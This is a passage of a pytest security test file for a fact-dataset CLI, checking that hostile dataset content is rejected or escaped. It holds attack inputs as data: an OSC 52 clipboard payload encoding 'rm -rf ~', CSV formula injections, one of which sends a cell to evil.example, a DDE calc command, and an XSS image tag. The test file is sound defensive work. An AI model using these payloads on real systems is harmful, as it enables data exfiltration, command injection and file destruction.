"""Issue 11: a dataset is untrusted input. Each test is an attack (or an accident) that
worked before, and what stops it now, grouped by the point of the issue it covers."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

import factcli.model.provenance
import factcli.store.build
import factcli.store.cache
import factcli.store.store
from factcli.atomic import write_atomically
from factcli.cli import app
from factcli.controls import has_unsafe, visible
from factcli.errors import NotFound
from factcli.model.records import FactRecord
from factcli.store.cache import file_status
from factcli.store.store import Store
from tests.conftest import (
    SHIPPED,
    WriteDataset,
    fact_index,
    generate_dataset,
    index_path,
    open_store,
)
from tests.conftest import cache_folder as cache_dir

runner = CliRunner()
BIN = Path(sys.executable).parent / "factcli"
MONEY = "acf-case-management-awards-2022"
FORMATS = ("table", "plain", "json", "jsonl", "csv", "markdown")


def run(*args: str) -> Any:
    return runner.invoke(app, list(args))


def assert_clean(result: Any) -> None:
    """No internal error, and no character that could steer a terminal, anywhere."""
    assert "internal error" not in result.stderr, result.stderr
    assert not has_unsafe(result.stdout.replace("\r\n", "\n"), line_breaks=True), result.stdout
    assert not has_unsafe(result.stderr, line_breaks=True), result.stderr


def subprocess_env() -> dict[str, str]:
    return {k: v for k, v in os.environ.items() if not k.startswith("FACTCLI_")}


# 1. No control sequence from the data reaches a terminal.

ATTACKS = {
    "CSI cursor move": "\x1b[2D\x1b[1C",
    "OSC window title": "\x1b]0;owned\x07",
    "OSC 52 clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "bell": "\x07",
    "backspace": "\b\b",
    "carriage return": "\rfake",
    "C1 CSI": "\x9b2J",
    "right-to-left override": "\u202e",
    "bidi isolate": "\u2067",
    "zero-width space": "\u200b",
    "lone surrogate": "\ud800",
}
TEXT_FIELDS = [
    (("facts", 0, "statement"), "facts[0].statement"),
    (("facts", 0, "text"), "facts[0].text"),
    (("facts", 1, "tags", 0), "facts[1].tags[0]"),
    (("facts", 0, "source", "quote"), "facts[0].source.quote"),
    (("facts", 0, "note"), "facts[0].note"),
    (("facts", 0, "subject"), "facts[0].subject"),
    (("sources", 0, "title"), "sources[0].title"),
    (("sources", 0, "publisher"), "sources[0].publisher"),
    (("sources", 0, "file"), "sources[0].file"),
    (("title",), "title"),
]


def _put(raw: dict[str, Any], path: tuple[str | int, ...], suffix: str) -> None:
    holder: Any = raw
    for part in path[:-1]:
        holder = holder[part]
    last = path[-1]
    holder[last] = (holder.get(last, "x") if isinstance(holder, dict) else holder[last]) + suffix


class TestNoControlSequences:
    @pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
    @pytest.mark.parametrize(("where", "json_path"), TEXT_FIELDS, ids=[p for _, p in TEXT_FIELDS])
    def test_rejected_in_every_text_field_with_its_path(
        self,
        write_dataset: WriteDataset,
        shipped_raw: dict[str, Any],
        where: tuple[str | int, ...],
        json_path: str,
        attack: str,
    ) -> None:
        """A control, bidi or zero-width character in any text field makes the dataset
        unusable (exit 2), the problem named by its JSON path, nothing raw on stderr."""
        _put(shipped_raw, where, attack)
        path = write_dataset(shipped_raw, text=json.dumps(shipped_raw, ensure_ascii=True))
        result = run("show", MONEY, "--data", str(path))
        assert result.exit_code == 2
        assert f" {json_path}" in result.stderr
        assert_clean(result)

    def test_fake_amount_in_show_is_refused(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """The issue's attack: a statement that moves the cursor back to turn "$8,500,000"
        into "$85,000,000" on screen is not shown at all."""
        n = fact_index(shipped_raw, MONEY)
        shipped_raw["facts"][n]["statement"] += "\x1b[13D$85,000,000"
        path = write_dataset(shipped_raw)
        for command in (["show", MONEY], ["get", MONEY], ["verify"]):
            result = run(*command, "--data", str(path))
            assert result.exit_code == 2 and "U+001B" in result.stderr
            assert_clean(result)

    def test_tab_and_newline_still_allowed(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """Tab and newline are text, not control sequences: a note may hold them."""
        shipped_raw["facts"][0]["note"] = "first line\n\tsecond line"
        result = run("list", "--data", str(write_dataset(shipped_raw)))
        assert result.exit_code == 0, result.output

    def test_file_name_is_escaped_in_errors(self, tmp_path: Path) -> None:
        """A dataset path holding ESC is shown as \\x1b, never sent raw."""
        result = run("list", "--data", str(tmp_path / "evil\x1b]0;owned\x07.json"))
        assert result.exit_code == 2
        assert "evil\\x1b]0;owned\\x07.json" in result.stderr
        assert_clean(result)

    def test_echoed_search_words_are_escaped(self) -> None:
        """Words echoed in a heading are made visible: the search still finds its facts."""
        for fmt in FORMATS:
            result = run("search", "ACF\x1b\x07\u202e", "-f", fmt)
            assert result.exit_code == 0, result.output
            assert_clean(result)
        assert "ACF\\x1b\\x07\\u202e" in run("search", "ACF\x1b\x07\u202e", "-f", "table").stdout

    def test_schema_details_escape_unknown_keys(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """An unknown key holding an escape sequence is named, visibly, in the details."""
        shipped_raw["facts"][0]["\x1b]52;c;eA==\x07"] = 1
        result = run("list", "--data", str(write_dataset(shipped_raw)))
        assert result.exit_code == 2 and "\\x1b]52;c;eA==\\x07" in result.stderr
        assert_clean(result)

    def test_document_text_is_escaped_in_extract(self, tmp_path: Path) -> None:
        """A document holding an OSC title sequence and a screen clear: extract shows the
        escapes as text in every format, and json keeps the exact text."""
        document = tmp_path / "hostile.txt"
        document.write_text(
            "In October 2022, ACF awarded \x1b]0;owned\x07$8.5 million to 10 groups.\x1b[2J\n"
        )
        for fmt in FORMATS:
            result = run("extract", str(document), "-f", fmt)
            assert result.exit_code == 0, result.output
            assert_clean(result)
        plain = run("extract", str(document), "-f", "plain").stdout
        assert "\\u001b]0;owned\\u0007$8.5 million" in plain
        found = json.loads(run("extract", str(document), "-f", "json").stdout)
        assert "\x1b]0;owned\x07" in found[0]["sentence"]["text"]

    def test_a_colored_run_leaves_the_next_run_safe(self, tmp_path: Path) -> None:
        """Two runs in one process share no output state: after a colored table, the next
        run's plain output is made safe all the same."""
        document = tmp_path / "hostile.txt"
        document.write_text("In October 2022, ACF awarded \x1b]0;owned\x07$8.5 million.\n")
        colored = run("list", "-f", "table", "--color", "always")
        assert colored.exit_code == 0 and "\x1b[" in colored.stdout
        result = run("extract", str(document), "-f", "plain")
        assert result.exit_code == 0, result.output
        assert_clean(result)

    def test_visible_escapes_every_unsafe_character(self) -> None:
        """visible() leaves ordinary text alone and escapes every attack."""
        assert visible("Zürich — 8,5 %") == "Zürich — 8,5 %"
        for attack in ATTACKS.values():
            assert not has_unsafe(visible(attack))


# 2. -o FILE writes into what is there.


class TestOutputFile:
    def test_symlink_stays_a_link(self, tmp_path: Path) -> None:
        """-o through a symlink writes the file it points to; the link stays a link."""
        target = tmp_path / "real.json"
        target.write_text("old")
        link = tmp_path / "link.json"
        link.symlink_to(target)
        assert run("export", "-o", str(link)).exit_code == 0
        assert link.is_symlink() and json.loads(target.read_text())["facts"]

    def test_dangling_symlink_creates_its_target(self, tmp_path: Path) -> None:
        """A link to a file not yet there: the file is created, the link kept."""
        link = tmp_path / "link.json"
        link.symlink_to(tmp_path / "new.json")
        write_atomically(link, "text\n")
        assert link.is_symlink() and (tmp_path / "new.json").read_text() == "text\n"

    def test_private_mode_is_kept(self, tmp_path: Path) -> None:
        """A 0600 file stays 0600 (it was reset to 0644)."""
        out = tmp_path / "private.csv"
        out.write_text("old")
        out.chmod(0o600)
        assert run("export", "-f", "csv", "-o", str(out)).exit_code == 0
        assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.read_text().startswith("id,")

    def test_hard_links_are_kept(self, tmp_path: Path) -> None:
        """Both names of a hard-linked file see the new text (renaming broke the link)."""
        out = tmp_path / "one.json"
        out.write_text("old")
        other = tmp_path / "two.json"
        os.link(out, other)
        write_atomically(out, "new\n")
        assert other.read_text() == "new\n" and out.stat().st_nlink == 2

    def test_fifo_is_written_through(self, tmp_path: Path) -> None:
        """A FIFO gets the text and stays a FIFO (it was replaced by a regular file)."""
        fifo = tmp_path / "pipe"
        os.mkfifo(fifo)
        reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
        write_atomically(fifo, "through the pipe\n")
        assert reader.communicate(timeout=10)[0] == b"through the pipe\n"
        assert stat.S_ISFIFO(fifo.lstat().st_mode)

    def test_character_device_is_written_through(self, tmp_path: Path) -> None:
        """/dev/null stays a device (as root, it was turned into a regular file)."""
        link = tmp_path / "null"
        link.symlink_to("/dev/null")
        write_atomically(link, "gone\n")
        assert stat.S_ISCHR(os.stat("/dev/null").st_mode)

    def test_folder_is_refused(self, tmp_path: Path) -> None:
        """A folder is not overwritten: one clear error line, exit 2."""
        result = run("export", "-o", str(tmp_path))
        assert result.exit_code == 2
        assert (
            result.stderr.startswith("factcli: error: cannot write ") and "folder" in result.stderr
        )


# 3. A stale or forged index is never served.


def _same_size_edit(path: Path, old: str, new: str) -> None:
    """Change the file's bytes, keeping its size and its modification time."""
    before = path.stat()
    text = path.read_text(encoding="utf-8")
    assert len(old) == len(new) and old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert path.stat().st_size == before.st_size


class TestIndexKey:
    def test_edit_keeping_size_and_mtime_is_seen(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """`touch -r` after an edit of the same length: the new value is served, and cache
        info says stale until then."""
        path = write_dataset(shipped_raw)
        assert run("get", MONEY, "--data", str(path)).stdout == "8500000\n"
        _same_size_edit(path, '"amount": "8500000"', '"amount": "9500000"')
        assert "\tstale\t" in run("cache", "info").stdout
        result = run("get", MONEY, "--data", str(path))
        assert result.stdout == "9500000\n", result.output

    def test_status_shortcut_is_checked(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """An index records a file status only when an edit cannot share it; a dataset
        edited right after its build is hashed again and its change seen."""
        path = write_dataset(shipped_raw)
        run("list", "--data", str(path))
        with sqlite3.connect(index_path(path)) as db:
            (status,) = db.execute("SELECT value FROM meta WHERE key = 'status'").fetchone()
        assert status == ""  # written just now: too recent to trust
        old = time.time_ns() - 10 * factcli.store.cache.RACY_NS
        os.utime(path, ns=(old, old))  # (the change time is now, and that is what counts)
        assert run("list", "--data", str(path)).exit_code == 0

    def test_cache_folder_is_private(self) -> None:
        """The cache folder is made 0700, and tightened if it was open."""
        run("list")
        assert stat.S_IMODE(cache_dir().stat().st_mode) == 0o700
        cache_dir().chmod(0o755)
        index_path(SHIPPED).unlink()
        run("list")
        assert stat.S_IMODE(cache_dir().stat().st_mode) == 0o700

    def test_index_of_another_user_is_ignored(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """An index file owned by someone else is never read (it could say anything)."""
        run("list")
        status = file_status(SHIPPED)
        assert Store.open(index_path(SHIPPED), SHIPPED, status) is not None
        monkeypatch.setattr(os, "getuid", lambda: os.stat(index_path(SHIPPED)).st_uid + 1)
        assert Store.open(index_path(SHIPPED), SHIPPED, status) is None
        assert open_store(SHIPPED).file is None

    def test_index_that_is_a_symlink_is_ignored(self, tmp_path: Path) -> None:
        """An index path that is a link (to a file someone else wrote) is not opened."""
        run("list")
        real = tmp_path / "planted.sqlite"
        index_path(SHIPPED).rename(real)
        index_path(SHIPPED).symlink_to(real)
        status = file_status(SHIPPED)
        assert Store.open(index_path(SHIPPED), SHIPPED, status) is None

    def test_undecodable_record_means_a_rebuild(self) -> None:
        """A record that is not what factcli wrote: the index is rebuilt, no error."""
        expected = run("show", MONEY, "-f", "json").stdout
        with sqlite3.connect(index_path(SHIPPED)) as db:
            db.execute('UPDATE facts SET record = \'["not", "a record\' WHERE id = ?', (MONEY,))
        result = run("show", MONEY, "-f", "json")
        assert result.exit_code == 0, result.output
        assert result.stdout == expected


# 4. A long query is answered or refused; it never destroys the index.


class TestLongQueries:
    def test_thousand_word_search_is_refused(self) -> None:
        """1,100 different words: one clear error, exit 2, and the index is still there."""
        run("list")
        words = [f"word{n}" for n in range(1100)]
        result = run("search", *words)
        assert result.exit_code == 2 and "different words; at most 64" in result.stderr
        assert_clean(result)
        assert index_path(SHIPPED).is_file()

    def test_repeated_words_count_once(self) -> None:
        """A word said 1,100 times is one word: the search is answered."""
        result = run("search", *(["ACF"] * 1100))
        assert result.exit_code == 0 and MONEY in result.stdout

    def test_long_question_never_deletes_the_index(self) -> None:
        """A 1,200-word question may be answered or not; the index survives it."""
        run("list")
        result = run("ask", " ".join(f"how much w{n}" for n in range(400)))
        assert result.exit_code in (0, 1, 2)
        assert_clean(result)
        assert index_path(SHIPPED).is_file()

    def test_query_errors_are_not_damage(self) -> None:
        """SQLite refusing a query (too large) keeps the index; broken schema removes it."""
        run("list")
        catalog = open_store(SHIPPED)
        assert isinstance(catalog, Store)
        with pytest.raises(Exception, match="cannot answer this query"):
            catalog.rows("SELECT " + " + ".join(["1"] * 5000))
        assert index_path(SHIPPED).is_file()


# 5. Sources stay inside the dataset folder.


class TestSources:
    def test_symlink_outside_is_refused(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any], tmp_path: Path
    ) -> None:
        """A source linked outside the folder: no hash of it, no quote oracle."""
        secret = tmp_path / "secret.txt"
        secret.write_text("the password is hunter2")
        path = write_dataset(shipped_raw)
        (path.parent / "sources" / "leak").symlink_to(tmp_path)
        shipped_raw["sources"][0]["file"] = "sources/leak/secret.txt"
        path.write_text(json.dumps(shipped_raw))
        result = run("verify", "--data", str(path))
        assert result.exit_code == 1
        assert "leads outside the dataset's folder" in result.stdout
        assert "sha256" not in result.stdout and "quote" not in result.stdout

    def test_device_is_refused(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """A source that is a device inside the folder (not a link) is not read."""
        path = write_dataset(shipped_raw)
        shipped_raw["sources"][0]["file"] = "sources/zero"
        path.write_text(json.dumps(shipped_raw))
        (path.parent / "sources" / "zero").symlink_to("/dev/zero")
        result = run("verify", "--data", str(path))
        assert result.exit_code == 1 and "outside the dataset's folder" in result.stdout

    def test_fifo_does_not_hang(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """A FIFO source is reported as not a regular file, at once."""
        path = write_dataset(shipped_raw)
        os.mkfifo(path.parent / "sources" / "fifo")
        shipped_raw["sources"][0]["file"] = "sources/fifo"
        path.write_text(json.dumps(shipped_raw))
        started = time.monotonic()
        result = run("verify", "--data", str(path))
        assert result.exit_code == 1 and "is not a regular file" in result.stdout
        assert time.monotonic() - started < 10

    def test_size_cap_is_named(
        self,
        write_dataset: WriteDataset,
        shipped_raw: dict[str, Any],
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        """A source over the cap is refused with the cap in the message."""
        monkeypatch.setattr(factcli.model.provenance, "MAX_SOURCE_BYTES", 1024 * 1024)
        path = write_dataset(shipped_raw)
        source = path.parent / shipped_raw["sources"][0]["file"]
        source.write_text(source.read_text() + " " * (1024 * 1024))
        result = run("verify", "--data", str(path))
        assert result.exit_code == 1
        assert "is larger than the limit of 1 MiB" in result.stdout


# 6. Killing factcli mid-build leaves nothing the next run trips on.

SLOW_BUILD = """
import sys, time
import factcli.store.build
real = factcli.store.build._Rows.insert
def slow(self, *args):
    print("building", file=sys.stderr, flush=True)
    time.sleep(60)
    return real(self, *args)
factcli.store.build._Rows.insert = slow
from factcli.cli import main
main(sys.argv[1:])
"""


class TestKilledBuild:
    def test_sigkill_mid_build_leaves_a_file_the_next_run_removes(self, tmp_path: Path) -> None:
        """SIGKILL to factcli mid-build: its pipe closes, and the next run removes the
        temporary file it left (`cache info` shows it as a leftover meanwhile)."""
        env = {**subprocess_env(), "XDG_CACHE_HOME": str(tmp_path / "cache")}
        process = subprocess.Popen(
            [sys.executable, "-c", SLOW_BUILD, "list"],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env,
        )  # fmt: skip
        assert process.stderr is not None
        assert process.stderr.readline() == b"building\n"
        process.kill()
        assert process.stdout is not None
        assert process.stdout.read() == b""
        process.wait()
        folder = tmp_path / "cache" / "factcli"
        assert list(folder.glob(".*.tmp"))
        info = subprocess.run([str(BIN), "cache", "info"], env=env, capture_output=True, text=True)
        assert "\tleftover\t" in info.stdout
        subprocess.run([str(BIN), "list"], env=env, capture_output=True, check=True)
        assert not list(folder.glob(".*.tmp"))


# 7. Exports are safe to open.


class TestExports:
    def test_csv_formulas_are_neutralised_in_text_columns(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """=, +, -, @, tab and CR at the start of a text cell get a leading quote; numbers
        are untouched."""
        n = fact_index(shipped_raw, MONEY)
        fact = shipped_raw["facts"][n]
        fact["statement"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        fact["tags"] = ["@SUM(1+1)"]
        fact["subject"] = "+1+cmd|' /C calc'!A0"
        fact["note"] = "-2+3"
        fact["population"] = "\t=1"
        path = write_dataset(shipped_raw)
        result = run("export", "-f", "csv", "--data", str(path))
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
        row = rows[MONEY]
        assert row["statement"].startswith("'=HYPERLINK")
        assert row["tags"] == "'@SUM(1+1)" and row["subject"].startswith("'+1")
        assert row["note"] == "'-2+3" and row["population"] == "'\t=1"
        assert row["value"] == "8500000" and row["start"].isdigit()

    def test_markdown_escapes_html_and_pipes(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """No tag reaches a renderer; no | ends a cell, in a link address either."""
        n = fact_index(shipped_raw, MONEY)
        shipped_raw["facts"][n]["statement"] = "<img src=x onerror=alert(1)> | & more"
        shipped_raw["sources"][0]["url"] = "https://example.org/a|b)c"
        shipped_raw["sources"][0]["title"] = "Title | with <b>tags</b>"
        path = write_dataset(shipped_raw)
        output = run("export", "-f", "markdown", "--data", str(path)).stdout
        assert (
            "<img" not in output and "&lt;img src=x onerror=alert(1)&gt; \\| &amp; more" in output
        )
        assert "(https://example.org/a%7Cb%29c)" in output
        assert "Title \\| with &lt;b&gt;tags&lt;/b&gt;" in output
        for line in output.splitlines()[2:]:
            assert line.replace("\\|", "").count("|") == 7


# 8. Every odd input gets a clean error, never "internal error".


class TestOddInputs:
    def test_amount_of_ten_to_the_28(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """10^28 is shown exactly by every command (it stopped them with InvalidOperation)."""
        n = fact_index(shipped_raw, MONEY)
        shipped_raw["facts"][n]["value"]["amount"] = "1" + "0" * 28
        path = str(write_dataset(shipped_raw))
        assert run("get", MONEY, "--data", path).stdout == "1" + "0" * 28 + "\n"
        for fmt in FORMATS:
            result = run("money", "--data", path, "-f", fmt)
            assert result.exit_code == 0, result.output
        verify = run("verify", "--data", path)
        assert f"value 1{'0' * 28} differs from 8500000" in verify.stdout

    def test_thirty_digit_fraction_is_kept_exactly(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """A 30-digit fraction is not rounded: verify names the real difference."""
        amount = "8500000.000000000000000000000001"
        n = fact_index(shipped_raw, MONEY)
        shipped_raw["facts"][n]["value"]["amount"] = amount
        path = str(write_dataset(shipped_raw))
        assert run("get", MONEY, "--data", path).stdout == amount + "\n"
        assert f"value {amount} differs from 8500000," in run("verify", "--data", path).stdout

    @pytest.mark.parametrize(
        ("text", "message"),
        [
            ('{"facts": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
            ('{"schema_version": "1.0", "n": ' + "9" * 5000 + "}", "cannot be read"),
        ],
        ids=["deep nesting", "5000-digit integer"],
    )
    def test_unreadable_json(self, write_dataset: WriteDataset, text: str, message: str) -> None:
        """Deep nesting and integers past Python's limit: one clean line, exit 2."""
        result = run("list", "--data", str(write_dataset({}, text=text)))
        assert result.exit_code == 2 and message in result.stderr
        assert_clean(result)

    def test_nul_in_a_source_path(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """A NUL in a source's file name is a schema problem, shown visibly."""
        shipped_raw["sources"][0]["file"] = "sources/a\x00b.txt"
        result = run("verify", "--data", str(write_dataset(shipped_raw)))
        assert result.exit_code == 2 and "sources[0].file" in result.stderr
        assert_clean(result)

    def test_arguments_that_are_not_utf8(self, tmp_path: Path) -> None:
        """Bytes that are not UTF-8: refused as words, accepted in a file name."""
        env = subprocess_env()
        words = subprocess.run([BIN, b"search", b"caf\xe9"], capture_output=True, env=env)
        assert words.returncode == 2
        assert words.stderr == b"factcli: error: the argument caf\\udce9 is not valid UTF-8 text\n"
        name = os.fsencode(tmp_path) + b"/caf\xe9.json"
        Path(os.fsdecode(name)).write_text(SHIPPED.read_text(encoding="utf-8"), encoding="utf-8")
        Path(tmp_path / "sources").symlink_to(SHIPPED.parent / "sources")
        listed = subprocess.run([BIN, b"list", b"--data", name], capture_output=True, env=env)
        assert listed.returncode == 0 and listed.stdout.count(b"\n") == 10

    def test_long_data_name(self, tmp_path: Path) -> None:
        """A 300-character --data name: a clean error line, exit 2."""
        result = run("list", "--data", str(tmp_path / ("x" * 300)))
        assert result.exit_code == 2 and "name too long" in result.stderr.lower()
        assert_clean(result)

    def test_full_stdout_device(self) -> None:
        """stdout on a full device: one error line, exit 2, no OSError traceback."""
        with open("/dev/full", "w") as full:
            result = subprocess.run(
                [str(BIN), "export"], stdout=full, stderr=subprocess.PIPE, text=True,
                env=subprocess_env(),
            )  # fmt: skip
        assert result.returncode == 2
        assert result.stderr == (
            "factcli: error: cannot write to standard output: No space left on device\n"
        )

    @pytest.mark.parametrize(
        ("when", "codes"),
        [
            ("typer", (130,)),  # while main() imports the CLI
            ("factcli.cli", (130,)),
            ("", (-signal.SIGINT, 130)),  # right after the entry module is imported
        ],
    )
    def test_ctrl_c_at_start_up(self, when: str, codes: tuple[int, ...]) -> None:
        """Ctrl-C in the first milliseconds, while modules load: no traceback."""
        script = f"""
import os, signal, sys
class Interrupt:
    def find_spec(self, name, path, target=None):
        if name == {when!r}:
            os.kill(os.getpid(), signal.SIGINT)
sys.meta_path.insert(0, Interrupt())
from factcli.entry import main
if not {when!r}:
    os.kill(os.getpid(), signal.SIGINT)
main()
"""
        result = subprocess.run(
            [sys.executable, "-c", script, "stats"], capture_output=True, text=True,
            env=subprocess_env(), timeout=60,
        )  # fmt: skip
        assert "Traceback" not in result.stderr, result.stderr
        assert result.returncode in codes

    def test_cursor_comes_back_after_ctrl_c_in_a_build(self, tmp_path: Path) -> None:
        """Ctrl-C during a build with a progress bar: the cursor is shown again."""
        import pty

        script = (
            SLOW_BUILD.replace(
                "import factcli.store.build\n",
                "import factcli.store.build\nfactcli.store.build.PROGRESS_FROM = 1\n",
            )
            .replace("time.sleep(60)", "time.sleep(0.5)")
            .replace('print("building", file=sys.stderr, flush=True)', "pass")
        )
        env = {**subprocess_env(), "XDG_CACHE_HOME": str(tmp_path), "TERM": "xterm"}
        leader, follower = pty.openpty()
        process = subprocess.Popen(
            [sys.executable, "-c", script, "list"], stdout=subprocess.DEVNULL,
            stderr=follower, env=env,
        )  # fmt: skip
        os.close(follower)
        seen = b""
        deadline = time.monotonic() + 30
        while b"\x1b[?25l" not in seen and time.monotonic() < deadline:
            seen += os.read(leader, 65536)
        process.send_signal(signal.SIGINT)
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
        process.wait(timeout=30)
        os.close(leader)
        assert process.returncode == 130
        assert seen.rfind(b"\x1b[?25h") > seen.rfind(b"\x1b[?25l") >= 0

    def test_cache_commands_survive_dangling_links_and_folders(self) -> None:
        """A dangling link and a folder named like an index: info and clear still work."""
        run("list")
        (cache_dir() / "dangling.sqlite").symlink_to(cache_dir() / "nowhere")
        (cache_dir() / "folder.sqlite").mkdir()
        info = run("cache", "info")
        assert info.exit_code == 0 and "1 index" in info.stdout
        cleared = run("cache", "clear")
        assert cleared.exit_code == 0 and cleared.stdout.startswith("removed 2 files")
        assert (cache_dir() / "folder.sqlite").is_dir()


# 9. Duplicate keys in a JSON object are an error.


def test_duplicate_key_is_an_error(
    write_dataset: WriteDataset, shipped_raw: dict[str, Any]
) -> None:
    """A reviewer reads the first "statement", factcli read the last: now neither."""
    text = json.dumps(shipped_raw, indent=2)
    first = f'"statement": {json.dumps(shipped_raw["facts"][0]["statement"])}'
    text = text.replace(first, first + ', "statement": "Something else entirely."', 1)
    result = run("list", "--data", str(write_dataset(shipped_raw, text=text)))
    assert result.exit_code == 2
    fact_id = shipped_raw["facts"][0]["id"]
    assert (
        f"the key 'statement' appears twice in one object (in the object with id '{fact_id}')"
        in (result.stderr)
    )


# 10. The cache path follows the XDG spec.


class TestCachePath:
    def test_relative_xdg_cache_home_is_ignored(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        """XDG_CACHE_HOME=rel writes no rel/factcli into the working folder."""
        monkeypatch.chdir(tmp_path)
        monkeypatch.setenv("XDG_CACHE_HOME", "rel")
        monkeypatch.setenv("HOME", str(tmp_path / "home"))
        from factcli.cli.settings import read_settings

        assert read_settings().cache_folder == tmp_path / "home" / ".cache" / "factcli"
        assert run("list").exit_code == 0
        assert not (tmp_path / "rel").exists()

    @pytest.mark.parametrize("name", ["with#hash", "with?question", "with%25percent"])
    def test_odd_characters_in_the_cache_path(
        self, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, name: str
    ) -> None:
        """#, ? and % in the path: the index is served, not rebuilt on every call."""
        monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / name))
        run("list")
        built = index_path(SHIPPED).stat().st_mtime_ns
        assert open_store(SHIPPED).file is not None
        run("list")
        assert index_path(SHIPPED).stat().st_mtime_ns == built


# 12. A mistyped id at 100,000 facts answers at once.


def test_did_you_mean_is_bounded(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """In a large dataset a mistyped id compares at most NEAR_IDS ids, and still suggests
    (600 facts count as many with NEAR_IDS at 20)."""
    import factcli.store.store

    monkeypatch.setattr(factcli.store.store, "NEAR_IDS", 20)
    store = open_store(generate_dataset(600, tmp_path))
    compared: list[int] = []
    real = factcli.store.store.did_you_mean

    def spy(wrong: str, known: Any) -> str:
        compared.append(len(known))
        return real(wrong, known)

    monkeypatch.setattr(factcli.store.store, "did_you_mean", spy)
    started = time.monotonic()
    with pytest.raises(NotFound, match="did you mean 'acf-behavioral-health-care-money-0"):
        store.by_ids(["acf-behavioral-health-care-money-0x"])
    assert time.monotonic() - started < 2
    assert compared and compared[0] <= 20


def test_index_finds_ids_by_prefix() -> None:
    """The index answers the prefix lookup from its id index."""
    catalog = open_store(SHIPPED)
    assert isinstance(catalog, Store)
    assert catalog.ids_starting("acf-case", 10) == [
        "acf-case-management-awards-2022", "acf-case-management-awards-date",
        "acf-case-management-grantees-2022",
    ]  # fmt: skip
    assert isinstance(catalog.fact(MONEY), FactRecord)


# 13. verify checks the statement.


class TestVerifyStatement:
    def test_statement_with_another_figure(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """ "$85 million" in the statement of an 8500000 fact is a problem."""
        n = fact_index(shipped_raw, MONEY)
        fact = shipped_raw["facts"][n]
        fact["statement"] = fact["statement"].replace("$8.5 million", "$85 million")
        result = run("verify", "--data", str(write_dataset(shipped_raw)))
        assert result.exit_code == 1
        assert f"{MONEY}: the statement states '$85 million', which is not the value 8500000" in (
            result.stdout
        )

    def test_a_frame_is_not_held_to_the_quote(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """`verify` checks values, not frames: a `when` (the period a fact applies to, read
        from its headings or document, or written by a person) may differ from a date its
        quote states, and extraction's periods then verify as they are added."""
        n = fact_index(shipped_raw, MONEY)
        shipped_raw["facts"][n]["when"] = "2022-11"
        shipped_raw["facts"][n]["measure"] = "awards for case management"
        result = run("verify", "--data", str(write_dataset(shipped_raw)))
        assert result.exit_code == 0, result.stdout

    def test_statement_of_another_share_and_date(
        self, write_dataset: WriteDataset, shipped_raw: dict[str, Any]
    ) -> None:
        """A ratio and a date stated differently are problems too."""
        women = fact_index(shipped_raw, "us-women-violence-lifetime-ratio")
        shipped_raw["facts"][women]["statement"] = "More than 1 in 2 women in the United States."
        ofvps = fact_index(shipped_raw, "ofvps-established-date")
        shipped_raw["facts"][ofvps]["statement"] = "HHS established OFVPS in April 2023."
        output = run("verify", "--data", str(write_dataset(shipped_raw))).stdout
        assert "statement states '1 in 2', which is not the value 1/3" in output
        assert "statement states 'April 2023', which is not the value 2023-03" in output


def test_scan_sees_every_chunk_and_seam(monkeypatch: pytest.MonkeyPatch) -> None:
    """The streamed build trusts a scan of the text only if the scan saw all of it: an
    escape cut in two by a chunk's end is still seen."""
    import factcli.model.jsonstream
    from factcli.controls import JsonScan
    from factcli.model.jsonstream import object_members

    text = json.dumps({"title": "x" * 37 + "\x1b[2J", "facts": [1, 2]})
    for size in (3, 7, 40, 64):
        monkeypatch.setattr(factcli.model.jsonstream, "_CHUNK", size)
        scan = JsonScan()
        list(object_members(io.StringIO(text), "facts", scan.feed))
        assert not scan.clean, size
    scan = JsonScan()
    list(object_members(io.StringIO(json.dumps({"facts": ["clean"]})), "facts", scan.feed))
    assert scan.clean


def test_source_add_never_writes_through_a_link_outside(tmp_path: Path) -> None:
    """sources/ linked elsewhere: source add refuses instead of writing outside."""
    dataset = tmp_path / "ds"
    assert run("init", str(dataset)).exit_code == 0
    outside = tmp_path / "outside"
    outside.mkdir()
    (dataset / "sources").rmdir()
    (dataset / "sources").symlink_to(outside)
    document = tmp_path / "doc.txt"
    document.write_text("In 2021 it cost $5 million.\n")
    result = run(
        "source", "add", str(document), "--data", str(dataset / "facts.json"),
